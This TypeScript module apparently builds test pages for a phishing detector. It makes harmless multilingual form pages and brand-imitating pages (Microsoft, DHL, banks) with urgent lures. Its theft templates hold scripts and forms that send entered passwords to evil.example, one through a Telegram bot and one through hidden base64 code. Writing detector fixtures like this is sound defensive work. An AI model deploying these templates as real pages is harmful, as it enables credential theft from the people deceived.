/** A page to judge. */
export interface JudgedPage {
  name: string;
  html: string;
}

interface Words {
  lang: string;
  signIn: string;
  password: string;
  send: string;
  newsletter: string;
  order: string;
  demo: string;
  course: string;
  settings: string;
  text: string;
}

const languages: readonly Words[] = [
  {
    lang: 'en',
    signIn: 'Sign in',
    password: 'Password',
    send: 'Send',
    newsletter: 'Our newsletter',
    order: 'Your order',
    demo: 'A demo of our sign-in',
    course: 'Lesson 4: forms',
    settings: 'Settings',
    text: 'This draft shows how the new screen will look. Comments are welcome until Friday.',
  },
  {
    lang: 'de',
    signIn: 'Anmelden',
    password: 'Passwort',
    send: 'Senden',
    newsletter: 'Unser Newsletter',
    order: 'Ihre Bestellung',
    demo: 'Eine Demo unserer Anmeldung',
    course: 'Lektion 4: Formulare',
    settings: 'Einstellungen',
    text: 'Dieser Entwurf zeigt, wie der neue Bildschirm aussehen wird. Anmerkungen sind bis Freitag willkommen.',
  },
  {
    lang: 'fr',
    signIn: 'Se connecter',
    password: 'Mot de passe',
    send: 'Envoyer',
    newsletter: 'Notre lettre',
    order: 'Votre commande',
    demo: 'Une démo de notre connexion',
    course: 'Leçon 4 : les formulaires',
    settings: 'Réglages',
    text: 'Cette maquette montre le futur écran. Vos remarques sont bienvenues jusqu’à vendredi.',
  },
  {
    lang: 'es',
    signIn: 'Iniciar sesión',
    password: 'Contraseña',
    send: 'Enviar',
    newsletter: 'Nuestro boletín',
    order: 'Su pedido',
    demo: 'Una demo de nuestro acceso',
    course: 'Lección 4: formularios',
    settings: 'Ajustes',
    text: 'Este borrador muestra la nueva pantalla. Los comentarios son bienvenidos hasta el viernes.',
  },
  {
    lang: 'ja',
    signIn: 'ログイン',
    password: 'パスワード',
    send: '送信',
    newsletter: 'ニュースレター',
    order: 'ご注文',
    demo: 'ログイン画面のデモ',
    course: '第4課：フォーム',
    settings: '設定',
    text: 'この下書きは新しい画面の案です。金曜日までご意見をお寄せください。',
  },
  {
    lang: 'ar',
    signIn: 'تسجيل الدخول',
    password: 'كلمة المرور',
    send: 'إرسال',
    newsletter: 'نشرتنا',
    order: 'طلبك',
    demo: 'عرض لشاشة الدخول',
    course: 'الدرس ٤: النماذج',
    settings: 'الإعدادات',
    text: 'تعرض هذه المسودة الشاشة الجديدة. نرحب بالملاحظات حتى يوم الجمعة.',
  },
];

const page = ({ lang }: Words, title: string, body: string) =>
  `<!doctype html><html lang="${lang}"><title>${title}</title><body><h1>${title}</h1>${body}`;

const field = ({ password }: Words) => `<label>${password} <input type="password"></label>`;

/** A bundle as frameworks make it: it can send anything, and names no host. */
const bundle = '<script src="assets/index-3f2a.js"></script>';
const strengthMeter =
  '<script>const f=document.querySelector("input");f.oninput=()=>{document.querySelector("meter").value=f.value.length}</script>';
const reveal = '<script>function show(b){b.previousElementSibling.type="text"}</script>';
const relativeSend =
  '<script>document.forms[0].onsubmit=async e=>{e.preventDefault();await fetch("/api/login",{method:"POST",body:new FormData(e.target)})}</script>';
const framework = '<script>window.__STATE__={user:null};import("./app.js").then(m=>m.start(document.body))</script>';

/** Kinds of harmless pages with forms, each in every language. */
const harmless: Readonly<Record<string, (words: Words) => string>> = {
  'a sign-in without a target': (w) => page(w, w.signIn, `<form>${field(w)}<button>${w.send}</button></form>`),
  'a sign-in that sends to its own site': (w) =>
    page(w, w.signIn, `<form action="/login" method="post">${field(w)}</form>`),
  'a demo with its bundle': (w) => page(w, w.demo, `<div id="root">${field(w)}</div>${bundle}`),
  'a demo that sends to its own server': (w) => page(w, w.demo, `<form>${field(w)}</form>${relativeSend}`),
  'a strength meter': (w) => page(w, w.demo, `${field(w)}<meter max="20"></meter>${strengthMeter}`),
  'a button that shows the password': (w) =>
    page(w, w.demo, `${field(w)}<button onclick="show(this)">👁</button>${reveal}`),
  'a draft of a screen': (w) => page(w, w.signIn, `<p>${w.text}</p><form>${field(w)}</form>`),
  'a draft of a screen with scripts': (w) => page(w, w.signIn, `<p>${w.text}</p><form>${field(w)}</form>${framework}`),
  'a prototype in a frame': (w) =>
    page(w, w.demo, `<iframe srcdoc="<form><input type='password'></form>"></iframe>${bundle}`),
  'a sign-up with two fields': (w) =>
    page(w, w.demo, `<form action="register">${field(w)}${field(w)}<input type="email"></form>${strengthMeter}`),
  'a course about forms': (w) =>
    page(w, w.course, `<p>${w.text}</p><pre>&lt;input type="password"&gt;</pre>${field(w)}${bundle}`),
  'a course that runs its example': (w) =>
    page(w, w.course, `<code>fetch("https://a.example")</code>${field(w)}${relativeSend}`),
  'settings with a password to change': (w) =>
    page(w, w.settings, `<form action="settings">${field(w)}</form>${bundle}`),
  'settings of an access point': (w) => page(w, w.settings, `<label>SSID <input></label>${field(w)}${relativeSend}`),
  'a newsletter elsewhere': (w) =>
    page(
      w,
      w.newsletter,
      `<form action="https://news.example/subscribe"><input type="email"><button>${w.send}</button></form>`,
    ),
  'a newsletter with scripts': (w) =>
    page(w, w.newsletter, `<form action="https://news.example/subscribe"><input type="email"></form>${bundle}`),
  'a search elsewhere': (w) =>
    page(w, w.course, `<form action="https://search.example/"><input name="q"></form>${bundle}`),
  'a contact form': (w) =>
    page(w, w.send, `<form action="mailto:office@shop.example"><textarea name="t"></textarea></form>`),
  'a survey': (w) =>
    page(w, w.send, `<form action="https://survey.example/1">${'<input type="radio">'.repeat(20)}</form>${bundle}`),
  'a checkout without a target': (w) =>
    page(w, w.order, `<form><input name="cardnumber" autocomplete="cc-number"></form>`),
  'a checkout of a design system': (w) =>
    page(w, w.order, `<form><input autocomplete="cc-number"><input autocomplete="cc-csc"></form>${bundle}`),
  'an order that names how to pay': (w) =>
    page(w, w.order, `<p>Visa, PayPal, Klarna</p><form action="pay"><input name="card-number"></form>${framework}`),
  'sign-in with accounts of others': (w) =>
    page(
      w,
      w.signIn,
      `<button>Google</button><button>Apple</button><button>GitHub</button><form action="/login">${field(w)}</form>${bundle}`,
    ),
  'a heading that offers the account of another': (w) =>
    page(w, w.demo, `<h2>Sign in with Google</h2><form>${field(w)}</form>${bundle}`),
  'a guide to another service': (w) =>
    page(w, 'How to sign in to Microsoft 365', `<p>${w.text.repeat(60)}</p>${field(w)}${bundle}`),
  'documentation of an interface': (w) =>
    page(w, 'PayPal API guide', `<p>${w.text.repeat(10)}</p><pre>password=…</pre>${field(w)}${bundle}`),
  'a component library': (w) =>
    page(w, 'Inputs', `${['text', 'email', 'password', 'date'].map((t) => `<input type="${t}">`).join('')}${bundle}`),
  'a portfolio of screens': (w) =>
    page(w, 'Case study', `<p>${w.text}</p><form>${field(w)}</form><img alt="Screens">${bundle}`),
  'a game with a code': (w) =>
    page(
      w,
      'Escape room',
      `${field(w)}<script>function open(){return document.querySelector("input").value==="1234"}</script>`,
    ),
  'a test of an accessibility tool': (w) =>
    page(w, 'Test page', `<form aria-label="${w.signIn}">${field(w)}</form>${reveal}`),
  'a diary that opens with a password': (w) =>
    page(
      w,
      'Diary',
      `${field(w)}<script>const k=await crypto.subtle.importKey("raw",new Uint8Array(16),"AES-GCM",false,["decrypt"])</script>`,
    ),
  'a report with a link to sign in': (w) =>
    page(w, 'Q3', `<p>${w.text}</p><a href="https://app.example/login">${w.signIn}</a>${bundle}`),
  'a form of a school': (w) =>
    page(
      w,
      w.course,
      `<form><input name="name"><input name="pin" type="password" maxlength="4"></form>${strengthMeter}`,
    ),
  'a captured shop': (w) =>
    page(
      w,
      'Shop',
      `<form role="search"><input name="q"></form><form><input type="email">${field(w)}</form><p>${w.text}</p>`,
    ),
};

export function harmlessPages(): JudgedPage[] {
  return Object.entries(harmless).flatMap(([name, make]) =>
    languages.map((words) => ({ name: `${name} (${words.lang})`, html: make(words) })),
  );
}

const steal = (host: string) =>
  `<script>document.forms[0].onsubmit=e=>{e.preventDefault();fetch("https://${host}/c",{method:"POST",mode:"no-cors",body:new FormData(e.target)})}</script>`;
const collect =
  '<script>document.forms[0].onsubmit=e=>{e.preventDefault();new Image().src=atob("aHR0cHM6Ly8=")+h+"?"+new URLSearchParams(new FormData(e.target))}</script>';
const telegram = '<script>send("https://api.telegram.org/bot1:x/sendMessage?text="+document.forms[0].p.value)</script>';
const obfuscated = '<script>eval(atob("ZmV0Y2goJ2h0dHBzOi8vZXZpbC5leGFtcGxlJyk="))</script>';

/** Names as pages that steal passwords use them, with the language they write in. */
const imitated: readonly (readonly [string, string, string])[] = [
  ['Microsoft', 'en', 'To view this secure document, sign in with your email account.'],
  ['DHL', 'de', 'Bestätigen Sie Ihre Daten, damit wir Ihr Paket zustellen können.'],
  ['Crédit Agricole', 'fr', 'Votre compte a été temporairement suspendu. Confirmez votre identité.'],
  ['BBVA', 'es', 'Su cuenta ha sido bloqueada. Verifique su identidad ahora.'],
  ['三井住友', 'ja', 'お客様のアカウントが一時的に制限されています。本人確認をお願いします。'],
  ['الراجحي', 'ar', 'تم تعليق حسابك. يرجى تأكيد هويتك.'],
];

/** Ways to take what is entered. The last two name no brand or no urgent words. */
const thefts: Readonly<Record<string, (brand: string, lure: string) => string>> = {
  'a form that posts elsewhere': (brand, lure) =>
    `<title>${brand}</title><h1>${brand}</h1><p>${lure}</p><form action="https://evil.example/in.php" method="post"><input name="u"><input type="password" name="p"></form>`,
  'a form without a scheme': (brand, lure) =>
    `<title>${brand}</title><p>${lure}</p><form action="//evil.example/in"><input type="password" name="p"></form>`,
  'a script that posts elsewhere': (brand, lure) =>
    `<title>${brand}</title><h1>${brand}</h1><p>${lure}</p><form><input name="u"><input type="password" name="p"></form>${steal('evil.example')}`,
  'a hidden address': (brand, lure) =>
    `<title>${brand}</title><h1>${brand}</h1><p>${lure}</p><form><input type="password" name="p"></form>${collect}`,
  'an inbox of a messenger': (brand, lure) =>
    `<title>${brand}</title><p>${lure}</p><form><input type="password" name="p"></form>${telegram}`,
  'hidden code': (brand, lure) =>
    `<title>${brand}</title><p>${lure}</p><form><input type="password"></form>${obfuscated}`,
  'a script of its own': (brand, lure) =>
    `<title>${brand}</title><h1>${brand}</h1><p>${lure}</p><form><input type="password"></form><script src="https://cdn.evil.example/a.js"></script>`,
  'a button that leads elsewhere': (brand, lure) =>
    `<h1>${brand}</h1><p>${lure}</p><form><input type="password"><button formaction="https://evil.example">OK</button></form>`,
  'a brand in a picture, and a bundle': (brand) =>
    `<img alt="${brand}"><form><input name="u"><input type="password"></form><script src="a.js"></script>`,
  'urgent words without a brand': (_, lure) =>
    `<h1>!</h1><p>${lure}</p><form><input type="password"></form><script src="a.js"></script>`,
};

export function imitatingPages(): JudgedPage[] {
  return Object.entries(thefts).flatMap(([name, make]) =>
    imitated.map(([brand, lang, lure]) => ({
      name: `${name}, as ${brand}`,
      html: `<html lang="${lang}">${make(brand, lure)}`,
    })),
  );
}
